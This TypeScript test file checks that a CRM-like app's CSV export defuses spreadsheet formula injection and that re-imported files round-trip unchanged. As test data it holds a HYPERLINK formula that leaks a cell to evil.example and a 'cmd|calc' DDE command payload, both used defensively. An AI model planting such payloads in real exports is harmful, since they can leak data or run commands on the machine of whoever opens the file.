// A customer controls what their account is called, and an admin opens the export in a
// spreadsheet: a name that starts a formula must arrive as text, not run on the admin's machine.
// Real negative numbers stay numbers. And the file imports back as it was: the quote that guards
// a cell is taken off again.
import { runTaskListOnce } from 'graphile-worker';
import { beforeAll, describe, expect, it } from 'vitest';
import { toTaskList } from '../../src/jobs/registry.ts';
import type { WorkspaceId } from '../../src/lib/ids.ts';
import { defineCustomField } from '../../src/modules/accounts/index.ts';
import { importJobs } from '../../src/modules/intake/import/index.ts';
import { signedIn, testApp, type ApiClient } from '../support/client.ts';
import { useTestDeps } from '../support/deps.ts';
import { makeUser, makeWorkspace, testPassword } from '../support/factories.ts';

const { deps, database } = await useTestDeps();
const { db } = deps;
const app = testApp(deps);

const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
let admin: ApiClient;

beforeAll(async () => {
  const workspaceId = (await makeWorkspace(db)).id;
  const person = await makeUser(db, workspaceId, { role: 'admin' });
  await defineCustomField(
    db,
    { workspaceId, userId: person.id },
    { entity: 'account', key: 'balance', label: 'Balance', type: 'number', required: false },
  );
  await defineCustomField(
    db,
    { workspaceId, userId: person.id },
    { entity: 'account', key: 'motto', label: 'Motto', type: 'text', required: false },
  );
  admin = await signedIn(app, person.email, testPassword);
  const created = await admin.POST('/api/v1/accounts', {
    body: {
      name: hostile,
      domain: 'evil.example',
      customFields: { balance: -1250.5, motto: '@SUM(1+1)' },
    },
  });
  expect(created.response.status).toBe(201);
  const account = created.data?.id ?? '';
  const contact = await admin.POST('/api/v1/accounts/{id}/contacts', {
    params: { path: { id: account } },
    body: { name: '+1 cmd|calc', title: '-Head of IT' },
  });
  expect(contact.response.status).toBe(201);
});

const csv = async (entity: 'accounts' | 'contacts', as = admin) => {
  const { data, response } = await as.GET('/api/v1/export/{entity}', {
    params: { path: { entity } },
    parseAs: 'text',
  });
  expect(response.status).toBe(200);
  return typeof data === 'string' ? data : '';
};

describe('an export opened in a spreadsheet', () => {
  it('writes an account named like a formula as text, behind a single quote', async () => {
    const accounts = await csv('accounts');
    expect(accounts).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
    expect(accounts).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(accounts).toContain(",'@SUM(1+1)");
  });

  it('keeps a negative number in a number column as a number', async () => {
    const [header = '', row = ''] = (await csv('accounts')).split('\r\n');
    const balance = header.split(',').indexOf('cf.balance');
    expect(balance).toBeGreaterThan(0);
    expect(row.split(',').at(balance - header.split(',').length)).toBe('-1250.5');
  });

  it("neutralizes every CSV it writes, not only the accounts'", async () => {
    const contacts = await csv('contacts');
    expect(contacts).toContain(",'+1 cmd|calc,");
    expect(contacts).toContain(",'-Head of IT,");
  });
});

describe('an export imported back', () => {
  const names = ['=Acme', "'=Quoted on purpose", '-Minus Corp', "'plain quote", 'Plain'];
  let owner: ApiClient;
  let workspaceId: WorkspaceId;

  beforeAll(async () => {
    workspaceId = (await makeWorkspace(db)).id;
    const person = await makeUser(db, workspaceId, { role: 'admin' });
    owner = await signedIn(app, person.email, testPassword);
    for (const [i, name] of names.entries()) {
      const created = await owner.POST('/api/v1/accounts', {
        body: { name, externalId: `rt-${i}` },
      });
      expect(created.response.status).toBe(201);
      const contact = await owner.POST('/api/v1/accounts/{id}/contacts', {
        params: { path: { id: created.data?.id ?? '' } },
        body: { name: `+${name}`, title: `@${name}`, externalId: `rt-contact-${i}` },
      });
      expect(contact.response.status).toBe(201);
    }
  });

  /** Uploads a file through the import API, runs it and answers the finished import. */
  const reimport = async (entity: 'accounts' | 'contacts', text: string) => {
    const form = new FormData();
    form.set('file', new File([text], `${entity}.csv`, { type: 'text/csv' }));
    const queued = await owner.POST('/api/v1/imports', {
      params: { query: { entity, dryRun: 'false', skipInvalid: 'false' } },
      body: form as never,
      bodySerializer: (body: unknown) => body as FormData,
    });
    expect(queued.response.status).toBe(202);
    const client = await database.pool.connect();
    try {
      await runTaskListOnce({}, toTaskList(deps, importJobs), client).promise;
    } finally {
      client.release();
    }
    const done = await owner.GET('/api/v1/imports/{id}', {
      params: { path: { id: queued.data?.id ?? '' } },
    });
    return done.data;
  };

  const stored = async (table: 'accounts' | 'contacts') =>
    (
      await db
        .selectFrom(table)
        .select('name')
        .where('workspace_id', '=', workspaceId)
        .orderBy('name')
        .execute()
    ).map((r) => r.name);

  it('changes no account and no contact: a name that starts a formula keeps no quote', async () => {
    const accounts = await csv('accounts', owner);
    expect(accounts).toContain(",'=Acme,");
    expect(accounts).toContain(",''=Quoted on purpose,");
    const contacts = await csv('contacts', owner);
    const accountsBefore = await stored('accounts');
    const contactsBefore = await stored('contacts');

    const accountsIn = await reimport('accounts', accounts);
    expect(accountsIn).toMatchObject({
      status: 'done',
      counts: { created: 0, updated: 0, unchanged: names.length, rejected: 0 },
    });
    const contactsIn = await reimport('contacts', contacts);
    expect(contactsIn).toMatchObject({
      status: 'done',
      counts: { created: 0, updated: 0, unchanged: names.length, rejected: 0 },
    });
    expect(await stored('accounts')).toEqual(accountsBefore);
    expect(await stored('contacts')).toEqual(contactsBefore);
    expect(accountsBefore).toContain("'=Quoted on purpose");
    expect(contactsBefore).toContain('+=Acme');
  });
});
